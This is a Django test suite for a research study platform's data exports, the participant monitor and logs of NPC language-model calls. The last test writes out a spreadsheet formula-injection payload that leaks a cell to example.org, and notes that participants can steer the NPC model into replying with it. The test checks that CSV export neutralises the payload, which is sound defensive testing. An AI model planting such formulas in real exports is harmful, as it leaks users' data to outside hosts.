"""Exports: every table streams as CSV and JSONL, the data dictionary covers every column, the
background job writes a ZIP of everything, and excluded participants stay out unless asked for."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from unittest import mock

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from games import services as game_services
from studies import export_jobs, exports, selectors, services
from studies.models import ExportJob
from studies.tasks import run_export
from studies.tests.factories import completed_participant, generated_study, play_with_the_planner

pytestmark = pytest.mark.django_db(transaction=True)


def body(response) -> str:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def study(make_study):
    study = make_study()
    for k, answers in enumerate([(2, 4), (3, 5)]):
        completed_participant(
            study,
            f"EXT{k}",
            progress_by_condition={"Alone": 40.0 + k, "Random NPC": 60.0 + k},
            answer_by_condition={"Alone": answers[0], "Random NPC": answers[1]},
        )
    dropped = services.give_consent(services.join(study, external_id="DROPPED"))
    services.drop_out(dropped, reason="left")
    return study


def test_every_table_streams_as_csv_with_the_documented_columns(client, researcher, study):
    client.force_login(researcher)
    for name, table in exports.TABLES.items():
        response = client.get(reverse("studies:export", args=[study.pk, name, "csv"]))
        assert response.status_code == 200
        assert response["Content-Disposition"].endswith(f'{name}.csv"')
        rows = list(csv.reader(io.StringIO(body(response))))
        assert rows[0] == [c.name for c in table.columns(study)]


def test_participants_exclude_drop_outs_unless_asked(client, researcher, study):
    client.force_login(researcher)
    url = reverse("studies:export", args=[study.pk, "participants", "csv"])
    default = list(csv.DictReader(io.StringIO(body(client.get(url)))))
    assert [r["external_id"] for r in default] == ["EXT0", "EXT1"]
    assert {r["status"] for r in default} == {"completed"}
    with_excluded = client.get(url + "?all=1")
    everyone = list(csv.DictReader(io.StringIO(body(with_excluded))))
    assert {r["external_id"] for r in everyone} == {"EXT0", "EXT1", "DROPPED"}
    # saved beside the default file, not over it
    assert with_excluded["Content-Disposition"].endswith('-participants-with-excluded.csv"')
    dropped = next(r for r in everyone if r["external_id"] == "DROPPED")
    assert dropped["drop_reason"] == "left" and dropped["status"] == "dropped"


def test_survey_answers_long_and_wide_agree(client, researcher, study):
    client.force_login(researcher)
    long = list(
        csv.DictReader(
            io.StringIO(body(client.get(reverse("studies:export", args=[study.pk, "responses_long", "csv"]))))
        )
    )
    wide = list(
        csv.DictReader(
            io.StringIO(body(client.get(reverse("studies:export", args=[study.pk, "responses_wide", "csv"]))))
        )
    )
    n_items = study.items.count()
    assert len(long) == 2 * 2 * n_items  # two participants, two episodes, every item
    assert len(wide) == 4
    first = wide[0]
    answers_of_first = [
        r for r in long if r["participant"] == first["participant"] and r["episode"] == first["episode"]
    ]
    for row in answers_of_first:
        assert first[f"q{row['item']}_{row['construct']}"] == row["answer"]
    reversed_row = next(r for r in long if r["reverse_scored"] == "true")
    assert int(reversed_row["score"]) == 6 - int(reversed_row["answer"])
    trust = [float(r["trust_score"]) for r in wide if r["condition"] == "Random NPC"]
    assert sorted(trust) == [4.0, 5.0]
    # an attention check screens and is never scored: its construct made an "attention_score"
    check = study.items.exclude(construct="trust").first()
    study.items.filter(pk=check.pk).update(construct="attention", attention_answer=4)
    again = list(
        csv.DictReader(
            io.StringIO(body(client.get(reverse("studies:export", args=[study.pk, "responses_wide", "csv"]))))
        )
    )
    assert f"q{check.index + 1}_attention" in again[0] and "attention_score" not in again[0]
    assert sorted(float(r["trust_score"]) for r in again if r["condition"] == "Random NPC") == [4.0, 5.0]


def test_episodes_carry_the_objective_metrics(client, researcher, study):
    client.force_login(researcher)
    text = body(client.get(reverse("studies:export", args=[study.pk, "episodes", "jsonl"])))
    rows = [json.loads(line) for line in text.splitlines()]
    assert len(rows) == 4
    assert {r["toy_progress"] for r in rows if r["condition"] == "Alone"} == {40.0, 41.0}
    assert all(r["metrics"]["progress"] == r["toy_progress"] for r in rows)


def test_jsonl_writes_an_empty_cell_as_null_and_csv_as_nothing():
    # a missing number was written "" in JSONL: pandas then read the whole column as text
    from studies.exports.base import Column
    from studies.exports.writers import RawJSON, csv_lines, jsonl_lines

    columns = [Column(name, "") for name in ("score", "note", "data", "missing")]
    rows = [{"score": "", "note": "", "data": RawJSON('{"a": 1}')}, {"score": 3.5, "note": "ok", "data": RawJSON("")}]
    assert [json.loads(line) for line in jsonl_lines(columns, rows)] == [
        {"score": None, "note": None, "data": {"a": 1}, "missing": None},
        {"score": 3.5, "note": "ok", "data": None, "missing": None},
    ]
    assert list(csv_lines(columns, rows))[1:] == [',,"{""a"": 1}",\n', "3.5,ok,,\n"]


def test_event_logs_export_every_entry_of_the_participants_games(client, researcher, make_study):
    study = make_study(pages=False)
    participant = services.give_consent(services.join(study, external_id="PLAYER"))
    episode = services.start_episode(participant, participant.episodes.get(index=0))
    game_services.apply_action(episode.game_id, agent=0, action="do dust", by=participant.user)
    game_services.finish(episode.game_id, reason="over")
    client.force_login(researcher)
    text = body(client.get(reverse("studies:export", args=[study.pk, "events", "jsonl"])))
    rows = [json.loads(line) for line in text.splitlines()]
    assert [r["seq"] for r in rows] == list(range(1, episode.game.events.count() + 1))
    assert {r["participant"] for r in rows} == {participant.code}
    assert any(r["category"] == "action" and "dust" in json.dumps(r["data"]) for r in rows)
    # who acted is the participant's code, as everywhere else in the export, not their account's
    # name ("by": "p-f14f2484030fe6ce" sat in 53 rows beside a participant column of P0001)
    name = participant.user.get_username()
    assert name.startswith("p-") and name not in text
    (action,) = [r for r in rows if r["category"] == "action"]
    assert action["data"]["by"] == participant.code


def test_the_data_dictionary_describes_every_column(client, researcher, study):
    client.force_login(researcher)
    rows = list(csv.DictReader(io.StringIO(body(client.get(reverse("studies:dictionary", args=[study.pk, "csv"]))))))
    described = {(r["table"], r["column"]) for r in rows if r["description"].strip()}
    for name, table in exports.TABLES.items():
        for column in table.columns(study):
            assert (name, column.name) in described


def test_the_background_export_writes_a_zip_of_everything(client, researcher, study):
    client.force_login(researcher)
    response = client.post(reverse("studies:start_export", args=[study.pk]))
    job = ExportJob.objects.get()
    assert response["Location"] == reverse("studies:export_job", args=[study.pk, job.pk])
    job.refresh_from_db()
    if job.status == "queued":  # with REDIS_URL the task went to the broker: run it here as a worker would
        run_export.apply(args=[job.pk])
        job.refresh_from_db()
    assert job.status == "done", job.error
    download = client.get(reverse("studies:export_job_download", args=[study.pk, job.pk]))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content)))
    names = set(archive.namelist())
    assert {f"{t}.{f}" for t in exports.TABLES for f in exports.FORMATS} <= names
    assert "data_dictionary.csv" in names
    participants = archive.read("participants.csv").decode().splitlines()
    assert len(participants) == 3  # header + two counted participants
    export_jobs.job_path(job).unlink()


def test_a_server_that_prepared_an_export_in_its_own_threads_prepares_it_again_at_start(
    researcher, study, settings, monkeypatch
):
    from arena_site import background
    from games import scheduler

    with mock.patch.object(background, "submit_on_commit"):
        job = export_jobs.request_export(study, user=researcher)
    ExportJob.objects.filter(pk=job.pk).update(status="running", progress=0.4)  # cut off half-way
    settings.BACKGROUND_INLINE = True  # queued work runs in the caller here
    monkeypatch.setattr(background, "in_this_process", lambda: True)  # as the embedded server's threads
    assert scheduler.resume_background_work() == [f"study export {job.pk}"]
    job.refresh_from_db()
    assert job.status == "done" and job.progress == 1.0, job.error
    assert zipfile.ZipFile(export_jobs.job_path(job)).namelist()
    export_jobs.job_path(job).unlink()


def test_unknown_tables_and_formats_are_404(client, researcher, study):
    client.force_login(researcher)
    assert client.get(reverse("studies:export", args=[study.pk, "secrets", "csv"])).status_code == 404
    assert client.get(reverse("studies:export", args=[study.pk, "participants", "xlsx"])).status_code == 404


def test_exports_are_for_researchers_only(client, participant, study):
    client.force_login(participant)
    assert client.get(reverse("studies:export", args=[study.pk, "participants", "csv"])).status_code == 403


def test_npc_calls_export_and_failed_calls_show_on_the_monitor(client, researcher, make_study):
    from games.npc.models import LlmCall

    study = make_study(pages=False)
    participant = services.give_consent(services.join(study, external_id="NPCS"))
    episode = services.start_episode(participant, participant.episodes.get(index=0))
    LlmCall.objects.create(
        game_id=episode.game_id,
        agent="dispatcher",
        model="smollm2",
        messages=[{"role": "user", "content": "state"}],
        reply="do sweep",
        parsed=["do sweep"],
    )
    LlmCall.objects.create(game_id=episode.game_id, agent="dispatcher", model="smollm2", error="timed out after 20 s")
    # a reply the rules could take nothing from moved no teammate either (a 135M model's every
    # reply in a kitchen: the monitor said "No NPC errors" while the teammate only waited)
    LlmCall.objects.create(
        game_id=episode.game_id, agent="dispatcher", model="smollm2", reply="I cook.", problems=["no command found"]
    )
    # nothing to do, said as nothing: not a problem
    LlmCall.objects.create(game_id=episode.game_id, agent="dispatcher", model="smollm2", reply="NOTHING")
    client.force_login(researcher)
    text = body(client.get(reverse("studies:export", args=[study.pk, "npc_calls", "jsonl"])))
    rows = [json.loads(line) for line in text.splitlines()]
    assert [r["reply"] for r in rows] == ["do sweep", None, "I cook.", "NOTHING"]  # a failed call: no reply
    assert rows[0]["prompt"] == [{"role": "user", "content": "state"}]
    assert rows[1]["error"] == "timed out after 20 s"
    assert {r["participant"] for r in rows} == {participant.code}
    monitor = client.get(reverse("studies:monitor", args=[study.pk])).content.decode()
    assert "timed out after 20 s" in monitor
    assert "dispatcher · smollm2: no usable command in the reply (no command found)" in monitor
    # the participant's row counts their failed NPC calls
    other = services.give_consent(services.join(study, external_id="CALM"))
    rows = {row["participant"].pk: row["npc_errors"] for row in selectors.participants_for_monitor(study)}
    assert rows == {participant.pk: 2, other.pk: 0}
    assert 'href="#npc-errors"' in client.get(reverse("studies:monitor", args=[study.pk])).content.decode()


def test_the_monitor_counts_an_open_game_page_as_presence(client, researcher, make_study):
    """A participant who played for ten minutes read "last seen 12 minutes ago" and "idle": only
    the study's own pages were counted."""
    from datetime import timedelta

    from django.utils import timezone

    from games.models import SeatConnection, ServerProcess
    from studies.models import Participant

    study = make_study(pages=False)
    participant = services.give_consent(services.join(study, external_id="PLAYING"))
    episode = services.start_episode(participant, participant.episodes.get(index=0))
    Participant.objects.filter(pk=participant.pk).update(last_seen_at=timezone.now() - timedelta(minutes=12))
    (row,) = selectors.participants_for_monitor(study)
    assert row["idle"] and not row["in_game"]
    seat = episode.game.seats.get(user=participant.user)
    server = ServerProcess.objects.create(id="here", started_at=timezone.now(), seen_at=timezone.now())
    SeatConnection.objects.create(game=episode.game, agent=seat.agent, server=server, opened_at=timezone.now())
    (row,) = selectors.participants_for_monitor(study)
    assert row["in_game"] and not row["idle"]
    client.force_login(researcher)
    monitor = client.get(reverse("studies:monitor", args=[study.pk])).content.decode()
    assert "now (game page open)" in monitor and "12 minutes ago" not in monitor


def test_episodes_on_a_generated_instance_read_against_its_certified_optimum(client, researcher):
    study, instance = generated_study(researcher)
    player = services.give_consent(services.join(study, external_id="P1"))
    game = play_with_the_planner(player, player.episodes.get(index=0))
    client.force_login(researcher)
    url = reverse("studies:export", args=[study.pk, "episodes", "jsonl"])
    (row,) = [json.loads(line) for line in body(client.get(url)).splitlines()]
    taken = game.result["completion_time"]
    assert row["optimum"] == instance["optimal_makespan"] and row["optimum_proven"] is True
    assert row["optimum_lower_bound"] == instance["lower_bound"]
    assert row["optimum_ratio"] == round(taken / instance["optimal_makespan"], 4) and row["optimum_ratio"] >= 1
    # A study without certified scenarios has no such columns.
    plain = services.create_study(title="x", created_by=researcher)
    assert "optimum" not in [c.name for c in exports.TABLES["episodes"].columns(plain)]
    assert "optimum" in [c.name for c in exports.TABLES["episodes"].columns(study)]


def test_a_model_reply_a_spreadsheet_would_run_is_exported_as_text(client, researcher, make_study):
    from games.npc.models import LlmCall

    study = make_study(pages=False)
    participant = services.give_consent(services.join(study, external_id="NPCS"))
    episode = services.start_episode(participant, participant.episodes.get(index=0))
    # a participant's chat goes into the prompt, so they can steer what the model answers
    payload = '=HYPERLINK("https://example.org/?leak="&A2, "click me")'
    LlmCall.objects.create(game_id=episode.game_id, agent="dispatcher", model="m", reply=payload, parsed=[])
    client.force_login(researcher)
    text = body(client.get(reverse("studies:export", args=[study.pk, "npc_calls", "csv"])))
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["reply"] == "'" + payload  # a spreadsheet shows it as typed instead of running it
    jsonl = body(client.get(reverse("studies:export", args=[study.pk, "npc_calls", "jsonl"])))
    assert json.loads(jsonl.splitlines()[0])["reply"] == payload  # JSON is no spreadsheet: as it was
